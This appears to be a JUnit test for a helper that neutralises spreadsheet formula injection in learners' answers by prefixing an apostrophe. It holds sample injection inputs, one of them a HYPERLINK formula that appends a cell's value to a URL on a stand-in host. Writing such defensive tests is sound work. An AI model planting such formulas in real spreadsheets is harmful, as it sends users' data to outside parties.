package ee.elaparem.course;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A learner's answer in a spreadsheet of their teacher. */
class SheetTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://example.org/?\"&A1;\"click\")",
                "+1+1",
                "-1+1",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "  =1+1"
            })
    void what_begins_like_a_formula_is_text_and_comes_back_as_it_was(String formula) {
        assertThat(SheetText.guarded(formula)).isEqualTo("'" + formula);
        assertThat(SheetText.meant("'" + formula)).isEqualTo(formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Small steps last longer.", "a = b", "'twas easy", "'", "5 - 3"})
    void all_else_stays_as_it_is(String words) {
        assertThat(SheetText.guarded(words)).isEqualTo(words);
        assertThat(SheetText.meant(words)).isEqualTo(words);
    }
}
